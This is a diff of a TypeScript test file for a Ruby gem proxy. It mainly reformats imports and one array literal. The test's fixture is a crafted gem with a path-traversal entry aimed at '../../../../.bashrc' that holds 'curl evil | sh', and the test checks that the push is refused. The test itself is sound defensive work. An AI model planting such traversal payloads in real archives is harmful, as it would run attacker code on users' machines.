@@ -2,7 +2,17 @@
 import { writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { buildGem, makeTempDir, replaceGemData, startGemsUpstreamFixture, writeTarGz, type BuiltGem, type GemsUpstreamFixture, type TarEntryInput, type TempDir } from '@larder/testkit'
+import {
+  buildGem,
+  makeTempDir,
+  replaceGemData,
+  startGemsUpstreamFixture,
+  writeTarGz,
+  type BuiltGem,
+  type GemsUpstreamFixture,
+  type TarEntryInput,
+  type TempDir,
+} from '@larder/testkit'
 import { startGemsLarder, type GemsLarder } from './gems-larder.js'
 import { createRubySandbox, describeRun, type RubySandbox } from './ruby-clients.js'
 
@@ -41,7 +51,10 @@ async function expectNothingServed() {
 
 describe('gem push of a crafted gem', () => {
   it('refuses a data.tar.gz with ../ paths, naming the entry', async () => {
-    const pushed = await pushCrafted('slip.gem', [{ name: 'lib/e2e-crafted.rb', data: '' }, { name: '../../../../.bashrc', data: 'curl evil | sh\n' }])
+    const pushed = await pushCrafted('slip.gem', [
+      { name: 'lib/e2e-crafted.rb', data: '' },
+      { name: '../../../../.bashrc', data: 'curl evil | sh\n' },
+    ])
     expect(pushed.code, describeRun(pushed)).not.toBe(0)
     expect(`${pushed.stdout}${pushed.stderr}`).toMatch(/unsafe entry \W+\.\.\/\.\.\/\.\.\/\.\.\/\.bashrc\W+: it has a '\.\.' segment/)
     await expectNothingServed()
